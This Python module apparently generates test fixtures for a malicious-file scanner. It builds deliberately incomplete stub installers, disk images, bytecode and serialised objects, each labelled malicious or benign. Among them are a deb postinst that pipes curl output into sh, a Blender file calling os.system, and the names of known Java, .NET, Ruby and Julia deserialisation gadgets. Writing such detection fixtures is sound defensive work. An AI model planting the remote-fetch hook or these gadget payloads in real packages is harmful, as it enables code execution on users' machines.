"""Installers, images, byte code and serialised objects of other languages. Nothing in them is complete enough to run."""

from __future__ import annotations

from stannary.testing.forges._hdf5_writer import Writer
from stannary.testing.forges._small_zip import small_zip
from stannary.testing.forges.configs import URL, file

__all__: list[str] = []

_PACKAGES = "installers and byte code"
_OBJECTS = "objects of other languages"


def _ar(members: dict[str, bytes]) -> bytes:
    out = b"!<arch>\n"
    for name, data in members.items():
        out += f"{name:<16}{0:<12}{0:<6}{0:<6}{'100644':<8}{len(data):<10}`\n".encode() + data + b"\n" * (len(data) & 1)
    return out


for _name, _filename, _content in (
    ("deb", "x.deb", _ar({"debian-binary": b"2.0\n", "postinst": f"#!/bin/sh\ncurl {URL} | sh\n".encode()})),
    ("rpm", "x.rpm", b"\xed\xab\xee\xdb\x03\0" + bytes(90)),
    ("cabinet", "x.cab", b"MSCF\0\0\0\0" + bytes(60)),
    ("help", "help.chm", b"ITSF\x03\0\0\0" + bytes(100)),
    ("flash", "x.swf", b"FWS\x08" + bytes(60)),
    ("dalvik", "model.dex", b"dex\n035\0" + bytes(100)),
    ("android", "x.apk", small_zip({"classes.dex": b"dex\n035\0" + bytes(100)})),
    ("lua_bytes", "model.luac", b"\x1bLJ\x02\x02" + bytes(40)),
    ("llvm", "kernel.bc", b"BC\xc0\xde" + bytes(200)),
    ("iso", "models.iso", bytes(32768) + b"\x01CD001\x01" + bytes(4096)),
    ("vhd", "models.vhd", bytes(512) + b"conectix" + bytes(504)),
    ("dmg", "models.dmg", bytes(512) + b"koly\0\0\0\4" + bytes(504)),
    ("shortcut", "README.pdf.lnk", bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)),
    ("note", "notes.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(900)),
    ("static_library", "libx.a", _ar({"x.o": b"\x7fELF\x02\x01\x01" + bytes(57)})),
    ("blend_script", "x.blend", b"BLENDER-v300TEXT" + bytes(20) + b"import os\nos.system('echo stannary')\nENDB"),
):
    file(f"program.{_name}", _filename, _content, _PACKAGES)
file("program.blend_plain", "x.blend", b"BLENDER-v300REND" + bytes(60) + b"ENDB", _PACKAGES, malicious=False)


def _java(*names: str) -> bytes:
    return b"\xac\xed\x00\x05" + b"".join(b"sr\0" + bytes((len(n),)) + n.encode() + bytes(8) + b"\x02\0\0xp" for n in names)


for _name, _filename, _content in (
    ("java_gadget", "weka.model", _java("java.util.HashMap", "org.apache.commons.collections.functors.InvokerTransformer")),
    ("java_templates", "model.ser", _java("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
    (
        "net_identity",
        "model.dat",
        b"\0\x01\0\0\0\xff\xff\xff\xff\x01" + bytes(7) + b"\x05\x01\0\0\0\x29System.Security.Principal.WindowsIdentity",
    ),
    ("ruby_gem", "model.marshal", b"\x04\bo:\x15Gem::Requirement\x06"),
    ("php_archive", "x.phar", b'<?php __HALT_COMPILER(); ?>\r\nO:4:"Evil":0:{}GBMB'),
):
    file(f"serial.{_name}", _filename, _content, _OBJECTS)


def _bson(*items: tuple[bytes, bytes, bytes]) -> bytes:
    body = b"".join(kind + key + b"\0" + value for kind, key, value in items) + b"\0"
    return (len(body) + 4).to_bytes(4, "little") + body


def _text(key: bytes, value: bytes) -> tuple[bytes, bytes, bytes]:
    return b"\x02", key, (len(value) + 1).to_bytes(4, "little") + value + b"\0"


def _julia(*names: bytes) -> bytes:
    """A struct of BSON.jl whose type has the name."""
    parts = _bson(*(_text(str(i).encode(), n) for i, n in enumerate(names)))
    kind = _bson(_text(b"tag", b"datatype"), (b"\x04", b"name", parts))
    return _bson((b"\x03", b"model", _bson(_text(b"tag", b"struct"), (b"\x03", b"type", kind))))


def _hdf5() -> bytes:
    w = Writer()
    made = w.finish(w.group({"weights": w.dataset((2, 4), bytes(32))}))
    return made[:24] + (512).to_bytes(8, "little") + made[32:]  # addresses count from behind Julia's header


_JULIA = b"7JL\x1c\x04\0\0\0"
_JLD2 = b"HDF5-based Julia Data Format, version 0.2.0\0".ljust(512, b"\0")
for _name, _filename, _made, _bad in (
    ("julia_bson_run", "model.bson", _julia(b"Base", b"run"), True),
    ("julia_bson_dense", "model.bson", _julia(b"Flux", b"Dense"), None),
    ("julia_stream_run", "model.jls", _JULIA + b"\x15\0\x04Base\x03run\0\0", True),
    ("julia_stream_plain", "model.jls", _JULIA + b"\x15\0\x04Flux\x05Chain\0\0", None),
    ("bson_plain", "data.bson", _bson(_text(b"name", b"iris"), (b"\x10", b"rows", b"\x96\0\0\0")), False),
    ("jld2_run", "model.jld2", _JLD2 + _hdf5() + b"Core.Function Base.run\0", True),
    ("jld2_plain", "model.jld2", _JLD2 + _hdf5(), False),
):
    file(f"serial.{_name}", _filename, _made, _OBJECTS, malicious=_bad)
file("serial.java_weka", "weka.model", _java("weka.classifiers.trees.J48", "weka.core.Instances"), _OBJECTS, malicious=False)
